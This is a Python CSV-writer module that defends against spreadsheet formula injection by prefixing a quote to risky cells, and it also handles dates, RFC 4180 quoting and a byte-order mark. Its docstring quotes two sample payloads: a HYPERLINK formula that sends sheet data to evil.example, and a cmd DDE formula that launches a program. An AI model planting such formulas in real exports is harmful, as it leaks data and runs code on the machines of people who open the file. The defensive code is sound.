"""The one CSV writer: every CSV the service writes goes through it (tests/test_architecture.py).

Cells are safe to open in a spreadsheet: a text cell whose first character is `=`, `+`, `-`, `@`, a
tab or a carriage return would be read as a formula (a staff member named
`=HYPERLINK("http://evil.example/?x="&B2)` leaks the sheet, `+cmd|' /C calc'!A0` runs a program), so
it is prefixed with `'`, which spreadsheets show as text (OWASP, "CSV Injection"). Numbers are
written as numbers: a `points_delta` of -10 stays -10. Rows follow RFC 4180 (quoted as needed, CRLF),
and a file starts with a UTF-8 byte-order mark, without which Excel reads UTF-8 as the local code page
and mangles accented names (Léa Müller).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime

BYTE_ORDER_MARK = "\ufeff"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cell(value: object) -> object:
    """A value as a CSV cell: empty for None, ISO 8601 for instants and days, a neutralised formula for
    text that a spreadsheet would run, numbers as they are."""
    if value is None:
        return ""
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def csv_rows(rows: Iterable[Sequence[object]]) -> str:
    """Rows as CSV text, every value through `cell`."""
    buffer = io.StringIO()
    csv.writer(buffer).writerows([cell(value) for value in row] for row in rows)
    return buffer.getvalue()


def csv_header(columns: Sequence[str]) -> str:
    """The first line of a file: the byte-order mark, then the column names."""
    return BYTE_ORDER_MARK + csv_rows([columns])
